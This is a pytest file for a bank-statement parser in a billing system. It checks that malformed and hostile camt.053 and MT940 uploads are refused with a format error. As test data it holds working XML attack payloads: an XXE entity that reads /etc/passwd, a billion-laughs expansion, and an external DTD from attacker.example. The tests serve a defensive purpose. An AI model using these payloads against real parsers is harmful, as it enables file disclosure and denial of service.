"""Hostile and broken input: refused with StatementFormatError, never expanded, never crashing."""

import os

import pytest

from kontorhaus.billing.bank.parsing import StatementFormatError, parse_statement
from kontorhaus.billing.bank.tests.test_parsing_camt import camt, entry, tx_details

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>&xxe;</Id>
</Stmt></BkToCstmrStmt></Document>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>&lol9;</Id>
</Stmt></BkToCstmrStmt></Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>"""


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_dtds_and_entities_are_refused(payload):
    with pytest.raises(StatementFormatError, match="DTD") as info:
        parse_statement(payload)
    assert "passwd" not in str(info.value) and "lol" not in str(info.value)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the file is empty"),
        (b"  \r\n\t ", "the file is empty"),
        (b"%PDF-1.7\n...", "not a bank statement"),
        (b"Buchungstag;Valuta;Betrag\n01.01.;01.01.26;1,00", "not a bank statement"),
        (b"<html><body>Login</body></html>", "not a camt.053 bank statement"),
        (b"<Document/>", "not a camt.053 bank statement"),
    ],
)
def test_things_that_are_not_statements(data, message):
    with pytest.raises(StatementFormatError, match=message):
        parse_statement(data, filename="upload.bin")


def test_random_bytes_are_refused():
    for seed in range(20):
        data = os.urandom(2048) if seed else b"<" + os.urandom(2048)
        with pytest.raises(StatementFormatError):
            parse_statement(data)


def test_truncated_camt_names_the_position():
    data = camt(entry(details=tx_details()))
    with pytest.raises(StatementFormatError, match="malformed or truncated XML") as info:
        parse_statement(data[: len(data) // 2])
    assert info.value.where.startswith("line 1, column")


def test_file_size_cap():
    data = camt(entry())
    with pytest.raises(StatementFormatError, match="too large"):
        parse_statement(data, max_bytes=len(data) - 1)
    assert parse_statement(data, max_bytes=len(data))


def test_mt940_with_broken_61_line_names_the_line():
    data = b"""\
:20:STARTUMS
:25:12345678/1234567890
:28C:1
:60F:C230209EUR100,00
:61:2302090209CR2,00NTRFNONREF
:86:166?00GUTSCHRIFT?20SVWZ+RE-2026-000001
:61:2302090209CR1.00NTRFNONREF
:86:166?00GUTSCHRIFT?20SVWZ+RE-2026-000002
:62F:C230209EUR103,00
-
"""
    with pytest.raises(StatementFormatError, match="invalid :61: statement line") as info:
        parse_statement(data)
    assert info.value.where == "line 7"
    assert str(info.value).endswith("(line 7)")


def test_mt940_truncated_before_closing_balance():
    data = b":20:STARTUMS\n:25:12345678/1234567890\n:60F:C230209EUR100,00\n:61:2302090209CR2,00NTRFNONREF\n"
    with pytest.raises(StatementFormatError, match="no closing balance"):
        parse_statement(data)
